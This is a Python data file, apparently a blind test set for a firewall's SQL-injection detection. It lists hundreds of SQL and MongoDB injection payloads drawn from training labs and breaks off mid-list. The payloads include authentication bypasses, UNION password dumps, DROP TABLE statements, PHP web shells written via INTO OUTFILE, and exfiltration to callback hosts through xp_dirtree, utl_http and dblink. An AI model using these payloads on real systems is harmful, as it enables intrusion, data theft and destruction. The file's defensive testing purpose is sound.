"""Blind set "hundredsixtyseventh": SQL and NoSQL injection the way students and instructors solve the classic
deliberately vulnerable training labs, with benign requests from a security team's training channel.

The angle: web-security training labs, recalled from memory (nothing looked up). DVWA at low, medium and high
security, OWASP Juice Shop challenges, WebGoat lessons, bWAPP, Mutillidae, HackTheBox and TryHackMe web boxes and
the online academies' lab solutions. Each group follows a lab's arc: the first probe, the working exploit, and
the "harder level" variant that defeats the lab's naive filter (case changes, doubled keywords that survive a
delete-once blacklist, comments or newlines for spaces, hex and char() for quoted strings, double URL-encoding,
wide bytes against addslashes()). Each group carries a comment naming the lab and its target database (MySQL or
MariaDB, PostgreSQL, SQLite, SQL Server, Oracle, MongoDB).

Families (category sqli; one sub-family per detection title):
  libinjection-sqli, sql-tautology-boolean, sql-comment-sequence, union-select, stacked-queries,
  time-based-blind (sleep/benchmark/pg_sleep/waitfor), error-based (extractvalue/updatexml/convert/cast),
  out-of-band (load_file/into outfile/xp_dirtree/utl_http/dblink), information-schema-probing,
  mysql-comment-obfuscation, function-based-probing (substring/ascii/char/concat), sql-authentication-bypass,
  nosql-injection (Mongo operators, $where), hex-char-encoding, stored-procedure-xp-cmdshell,
  having-group-order-by-probing, like-between-in-operators

Placements: every payload is sent twice. Once to our real routes (query of /api/users, the admin search form with
its csrf_token, JSON of /api/users, a cookie, User-Agent, Referer, X-Api-Version, a parameter name, an XML body,
a multipart field, the URL path), once the way a WAF regression suite sends it (placements prefixed "rs-"): to
paths that are not our routes (/, /index.php, /get, /post, /search, /api/v1/items, /cgi-bin/test.cgi) under
arbitrary parameter names (foo, var, x, test, id, arg1), as a query string, form body, JSON body, XML body, a raw
form-typed body, or in User-Agent, Referer, a custom header or a cookie. Juice Shop and Express-style MongoDB
login documents go as the whole JSON body; PHP/Express bracket operators (`password[$ne]=x`) go as raw
`name=value` pairs; wide-byte payloads (a 0xBF or 0xDF byte before the quote) go as raw bytes in a query string;
Juice Shop's product-id `$where` payload goes in the URL path. Payloads with control characters (newline, tab,
NUL) never go into headers, cookies or the path.

Authorship and independence: written for this repository from general knowledge of each attack family, the
training labs' solutions as remembered, and the detection titles alone; no WAF rule, engine source, ruleset
regression test or public payload list was read. Measured once on unchanged code; deterministic (no clock, no
randomness).
"""

from __future__ import annotations

from collections.abc import Iterator
from typing import Any

from .blind_placements import BlindSet
from .records import print_records

NAME = "hundredsixtyseventh"

# An entry is a payload string, or (payload, real placement, rs placement) when it only works in one kind of place.
Entry = str | tuple[str, str, str]
JB = ("json-body", "rs-json-body")
KV = ("form", "rs-raw-body")
RAWQ = ("query", "rs-query")
PATH = ("path", "rs-path")

# ----------------------------------------------------------------------------------------------------------------
# libinjection-sqli: the first probes and the short quote-breakers every lab starts with
LIBINJECTION: list[Entry] = [
    # DVWA SQL Injection (low), MySQL: the id goes into WHERE user_id = '$id' unescaped
    "1'",
    "1' or '1'='1",
    "%' or '0'='0",
    "1' or 1=1#",
    "1' or 1=1-- -",
    # DVWA (medium), MySQL: the dropdown posts a bare number and mysql_real_escape_string() is useless there
    "1 or 1=1",
    "2 or true#",
    "1 || 1=1",
    # DVWA (high), MySQL: the id comes from a session pop-up and the query ends with LIMIT 1
    "1' or 1=1 limit 1#",
    "-1' or 1#",
    # bWAPP SQL Injection (GET/Search), MySQL: the movie title sits in LIKE '%...%'
    "iron' or 1=1-- -",
    "man%' or 1=1#",
    # Mutillidae user-info.php, MySQL: username and password quoted, no filter at security level 0
    "jeremy' or 'a'='a",
    "' or 1=1 -- ",
    # WebGoat SQL Injection (intro), HSQLDB: string and numeric injection lessons
    "Smith' or '1'='1",
    "Smith' or 1=1--",
    "0 or 1=1",
    # OWASP Juice Shop product search, SQLite: the query is ...LIKE '%q%' OR description LIKE '%q%')) ...
    "'))--",
    "apple')) or 1=1--",
    # PortSwigger Academy "WHERE clause allowing retrieval of hidden data", any SQL backend
    "Gifts' or 1=1--",
    "Pets' OR 1=1-- ",
    # TryHackMe box whose filter drops the space character: comments and newlines stand in (MySQL)
    "1'/**/or/**/'1'='1",
    "1'\nor\n1=1#",
    # lab filters that match lowercase 'or' only, or ban the word entirely (MySQL keywords ignore case, || is OR)
    "1' oR '1'='1",
    "1' || 1#",
    "1' && 1=1 || '1",
    # double-quoted and parenthesised contexts (Mutillidae blind page, HTB login forms)
    '1" or "1"="1',
    "1') or ('1'='1",
    "1\") or (\"x\")=(\"x",
]

# sql-tautology/boolean: true/false pairs for boolean-blind labs
TAUTOLOGY: list[Entry] = [
    # DVWA SQL Injection (Blind), MySQL: "User ID exists" versus "User ID is MISSING"
    "1' and 1=1#",
    "1' and 1=2#",
    "1' and true#",
    "1' and not false#",
    # DVWA Blind (medium), MySQL: the numeric dropdown
    "1 and 1=1",
    "1 and 1=2",
    "1 AnD 2>1",
    # PortSwigger "Blind SQL injection with conditional responses", the TrackingId cookie (PostgreSQL)
    "xyz' AND '1'='1",
    "xyz' AND '1'='2",
    "xyz' AND (SELECT 'a' FROM users LIMIT 1)='a",
    "xyz' AND (SELECT 'a' FROM users WHERE username='administrator' AND LENGTH(password)>19)='a",
    # WebGoat blind lesson ("can you login as tom?"), HSQLDB: registration form username probe
    "tom' and '1'='1",
    "tom' AND '1'='2",
    # bWAPP SQL Injection - Blind - Boolean-Based, MySQL
    "iron man' and 1=1-- -",
    "iron man' and 1=0-- -",
    # TryHackMe SQL injection room, MySQL: boolean oracle on a username availability check
    "admin123' and 1=1;--",
    "admin123' union select 1,2,3 where database() like 's%';--",
    # harder filters: '=' removed, spaces removed, 'and' removed (MySQL)
    "1' and 2>1#",
    "1' and 3<>4#",
    "1'and(1)#",
    "1' && '1'='1",
    "1' anandd 1=1#",
    # Oracle and SQL Server labs, where a boolean needs a comparison
    "' or 1=1 and 'x'='x",
    "x' and (select 'y' from dual)='y",
    "1 and @@version is not null--",
    # SQLite (Juice Shop): a condition inside the double-parenthesised search
    "apple')) and 1=1--",
    "apple')) and 1=0--",
    "' or not 1=2-- -",
]

# sql-comment-sequence: the comment that cuts off the rest of the query
COMMENT: list[Entry] = [
    # DVWA (low), MySQL: every MySQL comment style after the quote
    "1'#",
    "1'-- ",
    "1'--+-",
    "1'/*",
    "2'-- a",
    # Mutillidae login, MySQL: the classic "admin' -- " with its mandatory trailing space
    "admin' -- ",
    "admin' #",
    # bWAPP Login Form/Hero, MySQL
    "bee'-- -",
    "bee' #",
    # PostgreSQL / Oracle / SQL Server labs: the double dash needs no space there
    "' or 1=1--",
    "';--",
    "1')--",
    "1'))-- -",
    # the harder level strips '#' and '--': an unterminated C comment, or a NUL after a semicolon
    "1' or '1'='1'/*",
    "1' or 1=1;\x00",
    "1' or 1=1;%00",
    # the lab deletes '--' once: a doubled sequence leaves a comment behind (MySQL)
    "1' or 1=1 ---- -",
    "1' or 1=1 -#- -#",
    # two-field login (HTB box): the comment opens in the username and closes in the password
    "admin'/*",
    "*/ or '1'='1' -- -",
    # inline comments between tokens, any dialect
    "1'/*x*/or/*x*/1=1/*",
    "' or/**/1=1;-- -",
    # SQL Server (HTB Windows box login): comment after the sa login
    "sa'--",
    "' or 1=1; --",
    # MySQL: a '#' and a newline end the comment; the rest of the line is query again
    "1'#\nor 1=1#",
    "1'-- x\nor 1=1-- x",
    # SQLite (Juice Shop login): the email field, comment kills the password check
    "jim@juice-sh.op'--",
    "' or 1=1 limit 1--",
]

# union-select: the column count, the reflected column and the dump
UNION: list[Entry] = [
    # DVWA (low), MySQL: two columns, first_name and surname are reflected
    "1' union select 1,2#",
    "1' union select user,password from users#",
    "1' union select null,version()#",
    "1' union select database(),user()#",
    "-1' union select 1,group_concat(user,0x3a,password) from users#",
    # DVWA (medium): no quotes needed in the numeric POST id
    "1 union select user,password from users#",
    "1 union select first_name,last_name from users",
    # DVWA (high): the trailing LIMIT 1 is commented away
    "1' union select first_name,password from users#",
    # PortSwigger Academy UNION labs (PostgreSQL, Oracle, MySQL)
    "' UNION SELECT NULL--",
    "' UNION SELECT NULL,NULL,NULL--",
    "' UNION SELECT NULL,'a',NULL--",
    "' UNION SELECT username,password FROM users--",
    "' UNION SELECT NULL,username||'~'||password FROM users--",
    "' UNION SELECT BANNER,NULL FROM v$version--",
    "' UNION SELECT @@version,NULL#",
    # Juice Shop "User Credentials" challenge (SQLite): nine columns of the Products table
    "qwert')) UNION SELECT id, email, password, '4', '5', '6', '7', '8', '9' FROM Users--",
    "')) union select 1,2,3,4,5,6,7,8,9--",
    # bWAPP SQL Injection (GET/Search), MySQL: seven columns, the users table's secret column
    "' union select 1,login,password,email,secret,1,1 from users-- -",
    # Mutillidae user-info.php, MySQL: the accounts table
    "' union select null,username,password,mysignature,null,null,null from accounts-- ",
    # WebGoat SQL Injection (advanced): user_data joined to user_system_data
    "Smith' UNION SELECT userid,user_name,password,cookie,'A','B',1 from user_system_data--",
    # HTB web boxes, MySQL: find the reflected column, then read it
    "' union select 1,2,3,4-- -",
    "0' union select 1,@@datadir#",
    # the harder level: case changes, delete-once doubled keywords, ALL/DISTINCT, no spaces
    "1' UnIoN SeLeCt 1,2#",
    "1' ununionion selselectect 1,2#",
    "1' union all select user(),2#",
    "1' union distinct select 1,version()#",
    "1'union(select(user),(password)from(users))#",
    "-1'\tunion\tselect\t1,2#",
]

# stacked-queries: a second statement after the semicolon
STACKED: list[Entry] = [
    # MySQL labs that run the query through mysqli_multi_query()
    "1'; drop table users-- -",
    "1'; insert into users(user,password) values('student',md5('student'))#",
    "1'; update users set password=md5('pwned') where user='admin'#",
    "1'; create user hacker identified by 'hacker';#",
    "1'; grant all privileges on *.* to 'hacker'@'%';#",
    "1'; rename table users to users_old;#",
    # "select" blacklisted at the harder level: a prepared statement built from pieces (MySQL)
    "1';set @s=concat('sel','ect * from users');prepare p from @s;execute p;#",
    "1';handler users open;handler users read first;#",
    "1'; SeT @a=0x73656c6563742031; PrEpArE s FROM @a; ExEcUtE s;#",
    # PostgreSQL labs and boxes (psql drivers stack statements)
    "1; create table pwn(t text);--",
    "1; alter user postgres with password 'pwned';--",
    "1; create role student superuser login password 'x';--",
    "'; copy (select '') to program 'id > /tmp/x';--",
    "1; update users set is_admin=true where username='student';--",
    # SQL Server labs (every driver stacks)
    "1; insert into users values ('x','x')--",
    "'; truncate table logs--",
    "1; shutdown--",
    "'; select @@version; --",
    "'; declare @q nvarchar(200); set @q='select name from sys.databases'; exec(@q)--",
    # SQLite: a statement after ';' when the app uses executescript() (HTB Flask box)
    "1; insert into users(username,password,role) values('student','x','admin');--",
    "1; attach database '/var/www/html/s.php' as s; create table s.t(d text);--",
    # case-changed and comment-separated variants for labs with a lowercase blacklist
    "1'; DrOp TaBlE users;#",
    "1';/**/delete/**/from/**/users;#",
    "1;\nDROP TABLE sessions;--",
    "1'; select sleep(3);#",
    "'; update accounts set balance=999999 where id=1;--",
    "1; alter table users add column pwned int;--",
    "1'; create table if not exists loot as select * from users;#",
]

# time-based-blind: sleep/benchmark/pg_sleep/waitfor, with the condition the lab leaks
TIME: list[Entry] = [
    # DVWA SQL Injection (Blind), MySQL: low, medium and high security
    "1' and sleep(5)#",
    "1' and if(length(database())=4,sleep(5),0)#",
    "1 and sleep(5)",
    "1' and if(ascii(substr(database(),1,1))>97,sleep(3),1)#",
    # bWAPP SQL Injection - Blind - Time-Based, MySQL
    "iron man' and sleep(5)-- -",
    # MySQL benchmark() when sleep() is blacklisted
    "1' and benchmark(5000000,md5('a'))#",
    "1' or benchmark(10000000,sha1(1))-- -",
    "1' and 0=benchmark(3000000,encode('hello','goodbye'))#",
    # the sub-select wrapper HTB players paste into every parameter (MySQL)
    "1' or (select * from (select(sleep(5)))a)-- -",
    "'XOR(if(now()=sysdate(),sleep(5),0))XOR'",
    "1' and (select 1 from (select sleep(5))x)#",
    # harder filters: case, comments, no spaces, xor instead of and (MySQL)
    "1' AnD SlEeP(5)#",
    "1'/**/and/**/sleep(5)#",
    "1'and(sleep(5))#",
    "1' xor sleep(5)#",
    "1' and sleep/**/(5)#",
    # PortSwigger "Blind SQL injection with time delays (and information retrieval)", PostgreSQL
    "x'||pg_sleep(10)--",
    "x';SELECT CASE WHEN (1=1) THEN pg_sleep(10) ELSE pg_sleep(0) END--",
    "x';SELECT CASE WHEN (username='administrator' AND SUBSTRING(password,1,1)='a') "
    "THEN pg_sleep(10) ELSE pg_sleep(0) END FROM users--",
    "1 and 1=(select 1 from pg_sleep(5))",
    # SQL Server labs: WAITFOR DELAY
    "'; WAITFOR DELAY '0:0:10'--",
    "1; IF (1=1) WAITFOR DELAY '0:0:5'--",
    "'; IF (SELECT COUNT(*) FROM users)>0 WAITFOR DELAY '00:00:05'--",
    "1 waitfor delay '0:0:5'",
    # Oracle labs: dbms_pipe
    "' AND 1=dbms_pipe.receive_message('a',10)--",
    "'||dbms_pipe.receive_message(('a'),10)||'",
    # SQLite (Juice Shop has no sleep): a huge randomblob keeps the CPU busy
    "')) AND 1=LIKE('ABCDEFG',UPPER(HEX(RANDOMBLOB(500000000/2))))--",
    "' and 1=randomblob(300000000)--",
    # MariaDB / MySQL: the delay in the sort parameter
    "(select sleep(5))",
]

# error-based: extractvalue/updatexml/floor(rand)/exp on MySQL, cast/convert elsewhere
ERROR: list[Entry] = [
    # MySQL labs (DVWA, bWAPP, sqli-style HTB boxes): XPath errors print the value
    "1' and extractvalue(1,concat(0x7e,database()))#",
    "1' and updatexml(1,concat(0x7e,(select user()),0x7e),1)#",
    "1' and extractvalue(1,concat(0x5c,(select password from users limit 1)))#",
    "1' and updatexml(1,concat(0x7e,(select group_concat(table_name) from information_schema.tables "
    "where table_schema=database())),1)#",
    "1 and extractvalue(rand(),concat(0x3a,version()))",
    # MySQL double-query error (duplicate key in group by)
    "1' and (select 1 from (select count(*),concat(version(),floor(rand(0)*2))x "
    "from information_schema.tables group by x)a)#",
    "1' and (select 1 from(select count(*),concat((select database()),0x3a,floor(rand(0)*2))x "
    "from information_schema.columns group by x)y)-- -",
    # MySQL 5.5 overflow and geometry errors
    "1' and exp(~(select * from (select user())a))#",
    "1' and geometrycollection((select * from (select * from (select user())a)b))#",
    "1' and json_keys((select convert((select database()) using utf8)))#",
    # harder levels: case changes, comments for spaces
    "1' AnD ExTrAcTvAlUe(1,CoNcAt(0x7e,version()))#",
    "1'and/**/updatexml(1,concat(0x7e,@@version),1)#",
    # PortSwigger "Visible error-based SQL injection", PostgreSQL
    "' AND 1=CAST((SELECT username FROM users LIMIT 1) AS int)--",
    "' AND CAST((SELECT password FROM users LIMIT 1) AS int)=1--",
    "1 and 1=cast(version() as int)",
    "'||(select cast(current_user as numeric))||'",
    # SQL Server labs: conversion errors print the string
    "' and 1=convert(int,@@version)--",
    "' and 1=convert(int,(select top 1 name from sysobjects where xtype='U'))--",
    "1 and 1=cast(db_name() as int)",
    "' + convert(int,(select top 1 password from users)) + '",
    # PortSwigger "Blind SQL injection with conditional errors", Oracle
    "'||(SELECT CASE WHEN (1=1) THEN TO_CHAR(1/0) ELSE '' END FROM dual)||'",
    "xyz'||(SELECT CASE WHEN LENGTH(password)>1 THEN TO_CHAR(1/0) ELSE '' END FROM users "
    "WHERE username='administrator')||'",
    # Oracle error functions
    "' and 1=ctxsys.drithsx.sn(1,(select user from dual))--",
    "' and 1=utl_inaddr.get_host_name((select banner from v$version where rownum=1))--",
    "' and 1=(select upper(xmltype(chr(60)||chr(58)||user||chr(62))) from dual)--",
    # SQLite and PostgreSQL division by zero as the error oracle
    "' and 1=(select case when (1=1) then 1/0 else 1 end)--",
    "1 and 1=(select 1/(select count(*) from users where username='admin' and password like 'a%'))",
    "1' and polygon((select * from(select * from(select version())a)b))#",
]

# out-of-band: file read/write and DNS/HTTP callbacks from the database
OOB: list[Entry] = [
    # DVWA (low), MySQL with FILE privilege: read files through the reflected columns
    "1' union select 1,load_file('/etc/passwd')#",
    "-1' union select load_file('/var/www/html/config/config.inc.php'),2#",
    "1' and (select load_file('/etc/hosts')) is not null#",
    # DVWA / HTB boxes: write a web shell into the document root
    "1' union select '<?php system($_GET[\"cmd\"]); ?>',2 into outfile '/var/www/html/shell.php'#",
    "1' union select 1,'<?php eval($_POST[x]);?>' into dumpfile '/var/www/html/hackable/uploads/x.php'#",
    "1' limit 1 into outfile '/var/www/html/s.php' lines terminated by '<?php system($_GET[c]);?>'#",
    "1' into outfile '/tmp/users.txt'#",
    # MySQL on Windows: a UNC path in load_file() makes a DNS lookup carrying the data
    "1' and load_file(concat('\\\\\\\\',(select password from users limit 1),'.x1.oastify.com\\\\a'))#",
    "1' union select load_file('\\\\\\\\10.10.14.7\\\\share\\\\x'),2#",
    # SQL Server labs: xp_dirtree / xp_fileexist make an SMB connection (Responder on HTB)
    "'; exec master..xp_dirtree '\\\\10.10.14.7\\share'--",
    "1; exec master..xp_fileexist '\\\\x2.oastify.com\\a'--",
    "'; declare @p varchar(1024);set @p=(select password from users where username='administrator');"
    "exec('master..xp_dirtree \"//'+@p+'.x3.oastify.com/a\"')--",
    "1; exec master..xp_subdirs '\\\\10.10.14.7\\x'--",
    # PortSwigger "Blind SQL injection with out-of-band interaction (and data exfiltration)", Oracle
    "x'||(SELECT EXTRACTVALUE(xmltype('<?xml version=\"1.0\" encoding=\"UTF-8\"?><!DOCTYPE root "
    "[ <!ENTITY % remote SYSTEM \"http://x4.oastify.com/\"> %remote;]>'),'/l') FROM dual)--",
    "' and utl_http.request('http://x5.oastify.com/'||(select user from dual))=1--",
    "'||utl_inaddr.get_host_address((select password from users where rownum=1)||'.x6.oastify.com')||'",
    "' and dbms_ldap.init((select user from dual)||'.x7.oastify.com',80)=1--",
    "' and httpuritype('http://x8.oastify.com/'||user).getclob() is not null--",
    # PostgreSQL labs and boxes: COPY, dblink and pg_read_file
    "'; copy (select '') to program 'nslookup x9.oastify.com'--",
    "'; select dblink_connect('host=x10.oastify.com user=a password=b dbname=c')--",
    "1;select * from dblink('host='||(select password from users limit 1)||'.x11.oastify.com "
    "user=a dbname=b','select 1') as t(a int)--",
    "'; copy users to '/tmp/users.csv'--",
    "1 union select pg_read_file('/etc/passwd'),null--",
    "'; copy (select '<?php system($_GET[0]);?>') to '/var/www/html/p.php'--",
    # SQLite: ATTACH creates a PHP file that holds a shell
    "1'; attach database '/var/www/html/lite.php' as lite; create table lite.pwn (d text); "
    "insert into lite.pwn values ('<?php system($_GET[0]);?>');--",
    "' union select 1,readfile('/etc/passwd')--",
    # harder level: case and comment games around the file functions (MySQL)
    "1' UnIoN SeLeCt 1,LoAd_FiLe('/etc/passwd')#",
    "1'/**/union/**/select/**/'<?=`$_GET[0]`?>',2/**/into/**/outfile/**/'/var/www/html/b.php'#",
]

# information-schema/catalog probing: tables and columns of every engine's catalog
CATALOG: list[Entry] = [
    # DVWA (low), MySQL
    "1' union select table_name,null from information_schema.tables#",
    "1' union select table_name,table_schema from information_schema.tables where table_schema=database()#",
    "1' union select column_name,null from information_schema.columns where table_name='users'#",
    "1' union select group_concat(table_name),2 from information_schema.tables where table_schema='dvwa'#",
    "1 union select schema_name,2 from information_schema.schemata#",
    # PortSwigger "listing the database contents" labs (PostgreSQL, Oracle)
    "' UNION SELECT table_name,NULL FROM information_schema.tables--",
    "' UNION SELECT column_name,NULL FROM information_schema.columns WHERE table_name='users_abcdef'--",
    "' UNION SELECT table_name,NULL FROM all_tables--",
    "' UNION SELECT column_name,NULL FROM all_tab_columns WHERE table_name='USERS_ABCDEF'--",
    "' union select owner,table_name from all_tables where owner not like 'SYS%'--",
    # Juice Shop "Database Schema" challenge, SQLite
    "')) union select sql,2,3,4,5,6,7,8,9 from sqlite_master--",
    "')) union select name,2,3,4,5,6,7,8,9 from sqlite_master where type='table'--",
    "' union select tbl_name,sql from sqlite_schema--",
    # SQL Server labs
    "' union select name,null from sysobjects where xtype='U'--",
    "' union select name,null from master..sysdatabases--",
    "1 union select name,null from sys.tables--",
    "' union select column_name,data_type from information_schema.columns where table_name='Users'--",
    # PostgreSQL boxes
    "' union select tablename,null from pg_tables where schemaname='public'--",
    "' union select datname,null from pg_database--",
    "' union select usename,passwd from pg_shadow--",
    # harder filter: information_schema blacklisted, MySQL's own statistics tables still list the tables
    "1' union select table_name,2 from sys.schema_table_statistics where table_schema=database()#",
    "-1' union select group_concat(table_name),2 from mysql.innodb_table_stats#",
    "1' union select 1,group_concat(table_name) from sys.x$schema_flattened_keys#",
    # boolean catalog probes for the blind levels (MySQL)
    "1' and (select count(*) from information_schema.tables where table_schema=database())=2#",
    "1' and (select count(column_name) from information_schema.columns where table_name='users')=8#",
    # case changes and comments (MySQL)
    "1' UnIoN SeLeCt TaBlE_NaMe,2 FrOm InFoRmAtIoN_sChEmA.TaBlEs#",
    "1'/**/union/**/select/**/column_name,2/**/from/**/information_schema.columns#",
    # bWAPP and Mutillidae column dumps (MySQL)
    "' union select 1,table_name,3,4,5,6,7 from information_schema.tables-- -",
    "' union select null,table_schema,table_name,column_name,null,null,null from information_schema.columns-- ",
]

# mysql-comment-obfuscation: MySQL's versioned and inline comments that hide keywords from a filter
MYCOMMENT: list[Entry] = [
    # lab filters that match keywords between spaces (custom "hard" levels): MySQL executable comments
    "1'/*!union*//*!select*/1,2#",
    "1' /*!50000union*/ /*!50000select*/ user,password from users#",
    "1'/*!12345UNION SELECT*/1,2#",
    "1' /*!00000union all*/ select 1,2-- -",
    "1'/*!UnIoN*/ /*!SeLeCt*/ 1,2#",
    "1' union select/*!50000 user*/,password from users#",
    "1'/*!or*/1=1#",
    "1' /*!and*/ sleep(5)#",
    "admin'/*!*/or/*!*/'1'='1",
    "1'/*!50000or*/1=1-- -",
    # filters that delete /**/ (or any comment) before matching: the keyword reassembles
    "1' un/**/ion sel/**/ect 1,2#",
    "1' uni/*x*/on se/*x*/lect user,password fr/*x*/om users#",
    "1' o/**/r 1=1#",
    # comment as whitespace everywhere (spaces banned)
    "1'/**/union/**/select/**/user,password/**/from/**/users#",
    "1'/**//*!50000union*//**/select/**/1,2#",
    "1'/*foo*/and/*bar*/1=1#",
    "1' or/**/1/**/=/**/1#",
    "1' order/**/by/**/3#",
    "1'/*!order by*/3#",
    # comment-then-newline tricks: the filter sees a comment, MySQL sees the keyword on the next line
    "1'#\nunion#\nselect 1,2#",
    "1' union-- x\nselect 1,2#",
    "1'/*\n*/union/*\n*/select/*\n*/1,2#",
    # comments inside function calls and around operators
    "1'/*!extractvalue*/(1,concat(0x7e,user()))#",
    "1'/*!and*/updatexml/**/(1,concat(0x7e,version()),1)#",
    "(1)/*!and*/(1)=(1)",
    "1'/**/||/**/1#",
    "1' uNiOn/*!*/sElEcT 1,2#",
    "1';/*!50000select*/ sleep(5);#",
    "1' /*!40000union*/ /*!40000select*/ 1,@@version#",
]

# function-based-probing: substring/ascii/char/concat and friends that read one character at a time
FUNCTION: list[Entry] = [
    # DVWA SQL Injection (Blind), MySQL: the database name letter by letter
    "1' and ascii(substring(database(),1,1))>97#",
    "1' and ascii(substr(database(),1,1))=100#",
    "1' and length(database())>3#",
    "1' and ord(mid(user(),1,1))=114#",
    "1' and left(version(),1)='5'#",
    "1' and substring(@@version,1,1)=8#",
    # PortSwigger conditional-response labs (PostgreSQL and Oracle syntax)
    "xyz' AND SUBSTRING((SELECT password FROM users WHERE username='administrator'),1,1)='a",
    "xyz' AND SUBSTR((SELECT password FROM users WHERE username='administrator'),2,1)='b",
    "xyz' AND ASCII(SUBSTRING((SELECT password FROM users LIMIT 1),2,1))>109--",
    # concat and char to build the output (MySQL)
    "1' union select concat(user,char(58),password),2 from users#",
    "1' union select concat_ws(':',user,password),2 from users#",
    "1' and char(65)='A'#",
    "1' and mid(version(),1,1)=char(56)#",
    # SQL Server and PostgreSQL labs
    "' and unicode(substring(db_name(),1,1))>64--",
    "' and len(system_user)>1--",
    "' and ascii(substr(current_database(),1,1))>96--",
    "' and chr(65)||chr(66)='AB'--",
    # Oracle
    "' and (select substr(banner,1,1) from v$version where rownum=1)='O'--",
    # Juice Shop, SQLite
    "')) and substr(sqlite_version(),1,1)='3'--",
    "')) and unicode(substr((select email from Users limit 1),1,1))>96--",
    # harder levels: commas banned, substr banned, '=' banned (MySQL)
    "1' and ascii(mid(database()from(1)for(1)))>97#",
    "1' and ascii(right(left(database(),1),1))>97#",
    "1' and lpad(database(),1,1)='d'#",
    "1' and hex(substr(user(),1,1))=72#",
    "1' and strcmp(substr(database(),1,1),'d')=0#",
    "1' and bin(ascii(substr(database(),1,1)))=1100100#",
    "1' and locate('dv',database())=1#",
    "1' and instr(database(),'dv')=1#",
    "1' and conv(hex(substr(user(),1,1)),16,10)=114#",
]

# sql-authentication-bypass: the login forms of every lab
AUTH: list[Entry] = [
    # Juice Shop "Login Admin", "Login Jim", "Login Bender" (SQLite): the email field
    "admin@juice-sh.op'--",
    "bender@juice-sh.op'--",
    "' or true--",
    "' or 1=1 limit 1 offset 1--",
    "' or email like 'admin%'--",
    # Mutillidae login.php, MySQL
    "admin' or 1=1 -- ",
    "' or 1=1 #",
    "admin'or'1'='1",
    # bWAPP SQL Injection (Login Form/Hero), MySQL: any password
    "' or 1=1-- -",
    "bee' or '1'='1'-- -",
    # WebGoat "SQL Injection (intro)" login: both fields injected (HSQLDB)
    "' or '1'='1",
    "' or ''='",
    # PortSwigger "SQL injection vulnerability allowing login bypass"
    "administrator'--",
    # HTB and THM login pages (MySQL)
    "admin' or '1'='1'-- -",
    "admin')-- -",
    "'=''or'",
    "' OR 1=1 LIMIT 1;#",
    "admin' and 1=1-- -",
    # the harder level: case changes, || for OR, double quotes (MySQL)
    "AdMiN' Or 1=1#",
    "admin'||'1'='1",
    "admin' || 1=1-- -",
    'admin" or "1"="1"-- -',
    # login forms that compare a returned hash: UNION a row whose hash the attacker knows (MySQL)
    "' union select 1,'admin','21232f297a57a5a743894a0e4a801fc3'-- -",
    "' AND 1=0 UNION ALL SELECT 'admin','81dc9bdb52d04dc20036dbd8313ed055'#",
    # md5($pass, true) login (CTF-style academy lab): this password's raw digest contains 'or'6...
    "ffifdyop",
    # backslash in the username escapes the closing quote; the password field carries the condition (MySQL)
    "admin\\",
    " or 1=1#",
    # group by ... with rollup returns a row with a NULL password the form accepts (MySQL)
    "' or 1=1 group by password with rollup limit 1 offset 1#",
]

# nosql-injection: MongoDB operators and server-side JavaScript
NOSQL: list[Entry] = [
    # Juice Shop-style / Express login (body-parser JSON), MongoDB
    ('{"email":{"$ne":null},"password":{"$ne":null}}',) + JB,
    ('{"username":"admin","password":{"$ne":"wrongpass"}}',) + JB,
    ('{"username":{"$regex":"^adm"},"password":{"$ne":""}}',) + JB,
    ('{"username":"admin","password":{"$regex":"^p"}}',) + JB,
    ('{"username":{"$gt":""},"password":{"$gt":""}}',) + JB,
    ('{"user":"admin","pass":{"$nin":[""]}}',) + JB,
    ('{"username":"admin","$where":"this.password.length>5"}',) + JB,
    ('{"$where":"sleep(5000)"}',) + JB,
    ('{"username":{"$in":["admin","administrator","superadmin"]},"password":{"$exists":true}}',) + JB,
    # Juice Shop "NoSQL Manipulation": update every review at once (PATCH /rest/products/reviews)
    ('{"id":{"$ne":-1},"message":"NoSQL Injection!"}',) + JB,
    # PHP (mongodb driver) and Express (qs) bracket syntax: the form value becomes an operator object
    ("username[$ne]=x&password[$ne]=x",) + KV,
    ("username=admin&password[$ne]=wrong",) + KV,
    ("login=admin&password[$regex]=^p",) + KV,
    ("user[$gt]=&pass[$gt]=",) + KV,
    ("username[$exists]=true&password[$exists]=true",) + KV,
    ("email[$regex]=.*&password[$ne]=1",) + KV,
    ("username=admin&password[$nin][]=a",) + KV,
    ("username[$regex]=^a.*&password[$gt]=a",) + KV,
    # Juice Shop "NoSQL DoS": the product id goes into a $where clause (/rest/products/<id>/reviews)
    ("sleep(2000)",) + PATH,
    # TryHackMe / HTB Node boxes: a string spliced into a $where JavaScript expression
    "1 || sleep(2000)",
    "1' || '1'=='1",
    "'; return true; var x='",
    "' || this.password.match(/^a/) || 'a'=='b",
    "admin' && this.password.length > 8 && 'a'=='a",
    "0;while(true){}",
    "'; while(true){}; '",
    "1' || true || '",
    "admin' || this.role=='admin' || '",
    "{\"$ne\": null}",
]

# hex/char encoding: strings without quotes, and encodings that slip past the lab's filter
ENCODING: list[Entry] = [
    # DVWA (medium), MySQL: mysql_real_escape_string() kills quotes, hex literals need none
    "1 union select column_name,2 from information_schema.columns where table_name=0x7573657273#",
    "1 union select user,password from users where user=0x61646d696e#",
    "1 and substr(database(),1,1)=0x64",
    "1 union select 1,load_file(0x2f6574632f706173737764)#",
    # MySQL char() for the quoted strings
    "1 union select 1,load_file(char(47,101,116,99,47,112,97,115,115,119,100))#",
    "1 or user=char(97,100,109,105,110)#",
    "1' union select unhex('61646d696e'),2#",
    "1' or user=x'61646d696e'#",
    "1 and b'1'=1",
    "1' union select 0x3c3f7068702073797374656d28245f4745545b635d293b3f3e,2 into outfile '/var/www/html/c.php'#",
    # PostgreSQL chr() and dollar quoting
    "' union select chr(97)||chr(100)||chr(109)||chr(105)||chr(110),null--",
    "1 and current_user=chr(112)||chr(111)||chr(115)||chr(116)||chr(103)||chr(114)||chr(101)||chr(115)",
    "1 and username=$$admin$$--",
    # SQL Server: a hex-encoded batch and char() concatenation
    "'; declare @s varchar(4000); set @s=0x73656c65637420404076657273696f6e; exec(@s)--",
    "' + char(39) + ' or 1=1--",
    "1;exec(char(115)+char(104)+char(117)+char(116)+char(100)+char(111)+char(119)+char(110))",
    # Oracle chr()
    "' or username=chr(97)||chr(100)||chr(109)||chr(105)||chr(110)--",
    # labs that urldecode() the input a second time after the filter (double encoding)
    "1%27%20or%201%3D1%23",
    "%2527%20or%201=1--",
    "1%27%20union%20select%201,2%23",
    "%27%20%6f%72%20%31%3d%31%2d%2d%20-",
    # addslashes() on a GBK connection: the lead byte swallows the backslash (MySQL wide byte)
